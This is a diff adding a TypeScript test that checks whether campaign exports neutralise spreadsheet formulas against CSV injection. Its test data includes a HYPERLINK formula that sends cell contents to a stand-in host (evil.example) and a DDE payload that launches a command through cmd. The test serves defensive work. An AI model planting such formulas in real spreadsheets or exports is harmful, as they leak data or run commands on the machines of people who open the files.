@@ -1,0 +1,98 @@
+/**
+ * Exports (API and CLI) neutralise spreadsheet formulas: a contact named `=HYPERLINK(…)` or `@SUM(…)` comes
+ * out with a leading apostrophe in CSV (OWASP, "CSV Injection"), and unchanged in JSON.
+ */
+import assert from 'node:assert/strict';
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { setTimeout as delay } from 'node:timers/promises';
+import { after, before, describe, it } from 'node:test';
+import { parse } from 'csv-parse/sync';
+import { exportCommand } from '../src/cli/run-commands';
+import { getProgress } from '../src/campaign/run-queries';
+import { startHttpServer, type RunningHttpServer } from '../src/http/serve';
+import { contact, startTestStack, WEBHOOK_SECRET, type TestStack } from './helpers/stack';
+
+const KEY = 'key_export_0123456789';
+const EVIL = [
+  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+  '@SUM(1+1)',
+  '+cmd|"/c calc"!A1',
+  '-2+3',
+];
+
+describe('CSV exports neutralise formula cells', () => {
+  let stack: TestStack;
+  let api: RunningHttpServer;
+  let runId: string;
+
+  before(async () => {
+    stack = await startTestStack();
+    api = await startHttpServer({
+      temporal: stack.env.client,
+      taskQueue: stack.taskQueue,
+      webhookSecret: WEBHOOK_SECRET,
+      host: '127.0.0.1',
+      port: 0,
+      api: {
+        keys: [{ key: KEY, space: 'space_test', user: 'u' }],
+        defaultAccount: 'acct_x',
+        defaultPipeId: 'pipe_test',
+        defaultRegion: 'US',
+      },
+    });
+    runId = await stack.run(
+      EVIL.map((name, i) => contact(`+141555502${String(i).padStart(2, '0')}`, i + 2, { name })),
+    );
+    const deadline = Date.now() + 60_000;
+    while ((await getProgress(stack.env.client, runId)).state !== 'completed') {
+      assert.ok(Date.now() < deadline, 'the run completes');
+      await delay(200);
+    }
+  });
+  after(async () => {
+    await api?.close();
+    await stack?.close();
+  });
+
+  const names = (csv: string) =>
+    (parse(csv, { columns: true }) as Record<string, string>[]).map((r) => r.name).sort();
+  const expected = EVIL.map((n) => `'${n}`).sort();
+
+  it('GET …/export/?format=csv', async () => {
+    const res = await fetch(`${api.url}/api/v2/platform/spaces/space_test/runs/${runId}/export/?format=csv`, {
+      headers: { authorization: `Token ${KEY}` },
+    });
+    assert.equal(res.status, 200);
+    const csv = await res.text();
+    assert.deepEqual(names(csv), expected);
+    const phones = (parse(csv, { columns: true }) as Record<string, string>[]).map((r) => r.phone ?? '');
+    assert.ok(
+      phones.every((p) => p.startsWith('+1415')),
+      'E.164 numbers are left as they are',
+    );
+  });
+
+  it('GET …/export/?format=json keeps the values as they are', async () => {
+    const res = await fetch(
+      `${api.url}/api/v2/platform/spaces/space_test/runs/${runId}/export/?format=json`,
+      {
+        headers: { authorization: `Token ${KEY}` },
+      },
+    );
+    const rows = (await res.json()) as { name: string }[];
+    assert.deepEqual(rows.map((r) => r.name).sort(), [...EVIL].sort());
+  });
+
+  it('unpod-campaigns export --format csv', async () => {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'sec-export-'));
+    try {
+      const out = path.join(dir, 'x.csv');
+      await exportCommand(stack.env.client, runId, { format: 'csv', out });
+      assert.deepEqual(names(fs.readFileSync(out, 'utf8')), expected);
+    } finally {
+      fs.rmSync(dir, { recursive: true, force: true });
+    }
+  });
+});
